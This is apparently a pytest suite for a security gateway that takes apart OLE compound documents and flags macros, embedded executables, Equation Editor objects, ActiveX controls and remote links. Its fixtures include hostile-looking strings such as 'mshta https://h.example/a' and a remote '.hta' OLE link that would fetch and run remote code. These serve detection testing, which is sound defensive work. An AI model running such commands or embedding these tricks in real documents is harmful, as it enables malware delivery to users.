from __future__ import annotations

import struct

import pytest

from gateway.extract.base import Child, Context, Node, Problem
from gateway.extract.office.binary.compound import MAGIC
from gateway.extract.office.binary.ole import OLE
from gateway.extract.office.code.activex import EQUATION
from gateway.model.artifact import Artifact, ArtifactKind
from gateway.model.content import Text
from gateway.model.deadline import Limits
from tests.builders.archives import codes, content, take_apart
from tests.builders.documents import STARTS_AND_RUNS, compound, ole_native, vba_compressed, vba_streams, xlm_workbook


def vba_at(prefix: str) -> dict[str, bytes]:
    return {f"{prefix}/{name}": data for name, data in vba_streams({"Module1": STARTS_AND_RUNS}).items()}


@pytest.mark.parametrize("prefix", ["Macros/VBA", "MACROS/vba", "_VBA_PROJECT_CUR/VBA", "ObjectPool/_12/Macros/VBA", "odd/names"])
def test_projects_anywhere(prefix: str) -> None:
    found = take_apart(OLE, compound(vba_at(prefix)), "a.doc")
    assert b"AutoOpen" in content(found)["Module1"]


def test_package_native_and_class() -> None:
    data = compound({"ObjectPool/_1/\x01Ole10Native": ole_native("invoice.exe", b"MZ")})
    found = take_apart(OLE, data, "a.doc")
    assert content(found)["invoice.exe"] == b"MZ" and "OLE-PACKAGE" in codes(found)
    assert "OLE-EQUATION" in codes(take_apart(OLE, compound({"x": b"y"}, root=EQUATION)))
    assert "OLE-EQUATION" in codes(take_apart(OLE, compound({"a/x": b"y"}, classes={"a": EQUATION})))


def test_link_stream_with_the_link_flag_only() -> None:
    url = "http://h.example/x.hta".encode("utf-16-le")
    assert "DOC-REMOTE-OLE" in codes(take_apart(OLE, compound({"\x01Ole": b"\1\0\0\2\1\0\0\0" + bytes(8) + url})))
    assert "DOC-REMOTE-OLE" not in codes(take_apart(OLE, compound({"\x01Ole": b"\1\0\0\2\0\0\0\0" + bytes(8) + url})))


@pytest.mark.parametrize(("stream", "held"), [
    (b"\\\\h.example\\public\\slides.inf\0", True), (b"\\\\192.0.2.7\\public\\slide1.gif", True), (b"\\\\fs01\\public\\slide1.gif\0", False),
    (b"C:\\slides.inf\0", False), (b"Our files: \\\\h.example\\public", False),
])
def test_a_package_that_lies_on_a_share(stream: bytes, held: bool) -> None:
    assert ("DOC-REMOTE-OLE" in codes(take_apart(OLE, compound({"EmbeddedStg1.txt": stream})))) == held


def test_workbook_and_properties() -> None:
    found = take_apart(OLE, compound({"Workbook": xlm_workbook(2), "\x05SummaryInformation": bytes(48) + "機密文件".encode("utf-16-le")}))
    assert "XLM-SHEET" in codes(found)
    assert any(isinstance(t, Text) and "機密文件" in t.content for t in found)


def test_files_in_unknown_streams_go_on() -> None:
    assert content(take_apart(OLE, compound({"Data1": b"MZ" + bytes(100), "Text": b"hello"}))) == {"Data1": b"MZ" + bytes(100)}


def test_macro_source_in_an_unknown_stream() -> None:
    assert "VBA-PROJECT" in codes(take_apart(OLE, compound({"stuff": b"xx" + vba_compressed(STARTS_AND_RUNS.encode())})))


def test_damaged_file_still_shows_its_macros() -> None:
    data = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + vba_compressed(STARTS_AND_RUNS.encode())
    found = take_apart(OLE, data)
    assert any(isinstance(p, Problem) for p in found) and "VBA-PROJECT" in codes(found)


def test_plain_document_is_silent() -> None:
    assert codes(take_apart(OLE, compound({"\x01CompObj": b"Microsoft Word Document", "Data": b"x"}))) == set()


def test_lines_with_numbers_of_unknown_streams_outbound() -> None:
    wide, other = "王大明 A123456789\r無 12".encode("utf-16-be"), b"\x01" + "陳小華 B123456789".encode("utf-16-le")
    data = compound({"DocumentText": b"SsmgV.01" + wide, "Var2Data": other, "Old": "林 C123456789".encode("cp950")})

    def texts(outbound: bool) -> str:
        node = Node(Artifact(1, 0, ArtifactKind.PART), data, "application/x-ole-storage")
        return "\n".join(y.content for y in OLE.extract(node, Context(Limits(), outbound=outbound)) if isinstance(y, Text))

    assert all(number in texts(True) for number in ("王大明 A123456789", "陳小華 B123456789", "C123456789"))
    assert "無 12" not in texts(True) and not texts(False)


def test_compound_files_within_streams_go_on() -> None:
    inner, other = compound(vba_at("Macros/VBA")), compound({"x": b"y" * 9})
    found = take_apart(OLE, compound({"Stuff": b"some head" + inner + b"between" + other + b"behind"}))
    assert [c.data for c in found if isinstance(c, Child)] == [inner, other]


def test_what_only_begins_like_a_compound_file() -> None:
    assert codes(take_apart(OLE, compound({"Stuff": b"some head" + (MAGIC + bytes(600)) * 3}))) == set()
    assert "COUNT" in codes(take_apart(OLE, compound({"Stuff": b"some head" + MAGIC * 70})))


@pytest.mark.parametrize(("ident", "code"), [
    ("05589fa1-c356-11ce-bf01-00aa0055595a", "DOC-ACTIVEX"), ("8bd21d10-ec42-11ce-9e0d-00aa006002f3", "DOC-FORM-CONTROL"),
])
@pytest.mark.parametrize("stream", ["\x03OCXNAME", "\x03OCXDATA"])
def test_controls_by_their_streams(ident: str, code: str, stream: str) -> None:
    data = compound({f"ObjectPool/_1/{stream}": b"x" * 20}, classes={"ObjectPool/_1": ident})
    assert codes(take_apart(OLE, data, "a.doc")) & {"DOC-ACTIVEX", "DOC-FORM-CONTROL"} == {code}
    plain = compound({"ObjectPool/_1/\x03ObjInfo": bytes(6)}, classes={"ObjectPool/_1": ident})
    assert not codes(take_apart(OLE, plain, "a.doc"))


@pytest.mark.parametrize(("stream", "text", "code"), [
    ("Quill/CONTENTS", "\\\\h.example\\s\\a.exe", "DOC-LINK-PROGRAM"), ("Quill/CONTENTS", "ms-word:ofe|u|https://h.example/a.docm", "DOC-LINK-PROGRAM"),
    ("Quill/CONTENTS", "\\\\h.example\\s\\a.pdf", ""), ("Quill/CONTENTS", "run \\\\h.example\\s\\a.exe", ""), ("Quill/CONTENTS", "mshta https://h.example/a", ""),
    ("VisioDocument", "mshta https://h.example/a", "DOC-RUN-PROGRAM"), ("VisioDocument", "PowerShell scripts", ""), ("VisioDocument", "cmd.exe", ""),
])
def test_programs_in_streams_of_no_known_kind(stream: str, text: str, code: str) -> None:
    piece = bytes(40) + text.encode("utf-16-le") + bytes(40)
    data = compound({stream: piece if stream != "VisioDocument" else drawing(piece)})
    assert codes(take_apart(OLE, data, "a.pub")) & {"DOC-LINK-PROGRAM", "DOC-RUN-PROGRAM"} == ({code} if code else set())


def drawing(piece: bytes) -> bytes:
    """A binary drawing whose only stream is not packed."""
    head = b"Visio (TM) Drawing\r\n".ljust(26, b"\0") + b"\x0b" + bytes(9)
    return head + struct.pack("<IIIIH", 0x46, 0, len(head) + 18, len(piece), 0) + piece
